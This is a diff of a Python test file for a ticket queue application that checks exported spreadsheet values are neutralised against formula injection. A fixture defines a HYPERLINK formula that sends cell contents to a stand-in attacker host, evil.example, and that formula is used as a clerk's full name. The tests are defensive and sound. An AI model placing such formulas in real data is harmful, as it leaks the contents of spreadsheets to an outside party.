@@ -19,8 +19,10 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
 def served(hub, db, manager):
     """A ticket served at a counter named "=1+1" by a clerk named =HYPERLINK(...)."""
     assert manager.post("/api/admin/counters", json={"number": 9, "name": "=1+1", "services": ["A"]}).status_code == 201
-    r = manager.post("/api/admin/users", json={"username": "evil", "full_name": HYPERLINK, "role": "clerk",
-                                               "password": "long enough"})
+    r = manager.post(
+        "/api/admin/users",
+        json={"username": "evil", "full_name": HYPERLINK, "role": "clerk", "password": "long enough"},
+    )
     assert r.status_code == 201
     clerk = Actor(r.json["id"], "clerk")
     ticket = queue.issue_ticket(db, hub.env, "A")[0]
@@ -31,10 +33,22 @@ def served(hub, db, manager):
     return hub.env.today()
 
 
-@pytest.mark.parametrize("value,written", [
-    ("=1+1", "'=1+1"), ("+84 236", "'+84 236"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
-    ("\r=1", "'\r=1"), ("Quầy 1", "Quầy 1"), ("", ""), (-2, -2), (1.5, 1.5), (None, None),
-])
+@pytest.mark.parametrize(
+    "value,written",
+    [
+        ("=1+1", "'=1+1"),
+        ("+84 236", "'+84 236"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("Quầy 1", "Quầy 1"),
+        ("", ""),
+        (-2, -2),
+        (1.5, 1.5),
+        (None, None),
+    ],
+)
 def test_text_that_a_spreadsheet_would_run_gets_a_quote_in_front(value, written):
     assert neutralise(value) == written
 
